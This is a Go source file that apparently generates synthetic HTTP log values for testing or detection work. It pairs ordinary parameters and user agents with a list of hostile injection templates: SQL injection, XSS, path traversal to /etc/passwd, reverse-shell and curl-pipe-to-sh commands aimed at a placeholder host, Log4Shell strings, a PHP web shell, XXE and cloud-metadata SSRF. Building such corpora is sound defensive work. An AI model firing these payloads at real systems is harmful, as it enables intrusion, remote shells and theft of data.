package corpus

// Values makes up n ordinary values of HTTP parameters and user agents.
func Values(seed uint64, n int) []string { return newMaker(seed).many(n, ordinaryValues()) }

// HostileValues makes up n values as injections leave them in a log.
func HostileValues(seed uint64, n int) []string { return newMaker(seed).many(n, hostileValues()) }

func ordinaryValues() []string {
	return []string{
		`{w}`, `{w} {w}`, `{W} {W}`, `{w}, {w}`, `{N}`, `{n}`, `{N}{N}`, `{w}@example.com`, `{user}`, `{w}{n}`, `{w2}`, `c/ {w}, {n}, {n}-{n}`, `2026-0{n}-1{n}`, `{hex}`, `{guid}`, `true`, `zh-CN`, `en-US,en;q=0.9`,
		`/{w}/{w}/{n}`, `/{w}/{w}.html`, `/assets/{w}.min.js?v={N}`, `{w}.jpg`, `https://www.example.com/{w}/{w2}`, `{W} {W} {w} {w} {w}.`, `{w}+{w}`, `{n}.{n}.{n}`, `{w}={w}&{w}={N}`,
		`Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.{N}.{n} Safari/537.36`,
		`Mozilla/5.0 (X11; Linux x86_64; rv:{n}.0) Gecko/20100101 Firefox/{n}.0`, `Mozilla/5.0 (iPhone; CPU iPhone OS {n}_{n} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{n}.0 Mobile Safari/604.1`,
		`{w}bot/{n}.{n} (+https://www.example.com/{w}.html)`, `python-requests/2.{n}.{n}`, `curl/8.{n}.0`,
	}
}

func hostileValues() []string {
	return []string{
		`' or '{n}'='{n}`, `{w}' or 1=1-- -`, `{n}) union all select null,{w},null from {w}#`, `{N} and (select {N} from(select count(*),concat(0x{hex},floor(rand(0)*2))x from information_schema.tables group by x)a)`,
		`'; drop table {w};--`, `{n} and sleep({n})`, `{w}%' and extractvalue(1,concat(0x7e,version())) and '%'='`, `<script>alert({n})</script>`, `"><img src=x onerror=alert('{w}')>`, `<svg/onload=fetch('//{out}/{w}')>`,
		`javascript:eval(String.fromCharCode({n},{n},{n}))`, `../../../../../../etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fshadow`, `....//....//....//windows/win.ini`, `/etc/passwd%00.jpg`,
		`; cat /etc/passwd`, `| nc {out} {port} -e /bin/sh`, "`wget http://{out}/{w}.sh`", `$(curl http://{out}/{w}|sh)`, `&& ping -c {n} {out}`, `${jndi:ldap://{out}:{port}/{w}}`, `${${lower:j}ndi:${lower:l}dap://{out}/{w}}`,
		`() { :;}; /bin/bash -c "cat /etc/passwd"`, `{{n}*{n}}{{config.items()}}`, `<?php system($_GET['{w}']); ?>`, `<!--#exec cmd="/bin/ls" -->`, `<!ENTITY xxe SYSTEM "file:///etc/passwd">`,
		`%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`, `O:{n}:"{W}":1:{s:{n}:"{w}";s:{n}:"{w}";}`, `*)(uid=*))(|(uid=*`, `http://169.254.169.254/latest/meta-data/{w}`,
	}
}
